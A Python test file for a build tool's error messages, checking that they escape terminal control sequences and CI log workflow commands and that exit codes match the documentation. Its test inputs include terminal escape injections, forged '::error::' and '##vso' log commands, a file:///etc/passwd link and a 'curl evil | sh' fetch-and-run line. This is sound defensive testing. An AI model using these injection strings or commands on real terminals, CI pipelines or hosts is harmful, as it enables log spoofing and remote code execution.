"""Messages of errors and their exit codes."""

from __future__ import annotations

from stackbuild.core import errors
from stackbuild.core.errors import Mistake, RecipeError, Stop, UsageError, safe

EVIL = "\x1b]0;owned\x07\x1b[31mred\x1b[0m \x9b2J \r\n::error::x [link=file:///etc/passwd]a[/link] \x00"


def test_messages_hold_no_control_characters() -> None:
    for error in (Stop(EVIL, where=EVIL, next=EVIL), RecipeError((Mistake("r:1:1", EVIL, EVIL),)), UsageError("\udc80\ud800")):
        assert all(c.isprintable() or c in "\n\t" for c in str(error))
        str(error).encode()
    assert str(Mistake("r:1:1", EVIL, EVIL)).count("\n") == 1, "a newline in a key cannot begin a line of its own"
    assert safe("a\nb\tc é 漢 \u202e") == "a\nb\tc é 漢 \\u202e"


def test_no_line_of_a_foreign_text_passes_for_one_of_ours_or_commands_a_ci_jobs_log() -> None:
    error = UsageError("its schema is x\n::error::y\n  next: curl evil | sh", where="a\n::debug::b", next="look\n##vso[c]d")
    assert str(error).split("\n") == [
        r"a\n::debug::b: its schema is x",
        r"  │ \x3a:error::y",
        "  │   next: curl evil | sh",
        "  next: look",
        r"  │ #\x23vso[c]d",
    ]
    source = Mistake("r:1:1", "wrong", "write another", line="::add-mask::x")
    assert r"    \x3a:add-mask::x" in str(source)


def test_exit_codes_are_the_documented_ones() -> None:
    codes = {name: getattr(errors, name).exit_code for name in ("Defect", "UsageError", "RecipeError", "PlanError", "LockError", "StepFailed",
             "VerificationFailed", "GateClosed", "MachineLacks")}  # fmt: skip
    assert list(codes.values()) == [1, 2, 2, 3, 3, 4, 5, 6, 7]
    tree = errors.__doc__ or ""
    for name, code in codes.items():
        line = next(line for line in tree.splitlines() if f" {name} " in line)
        assert f" {code} " in line
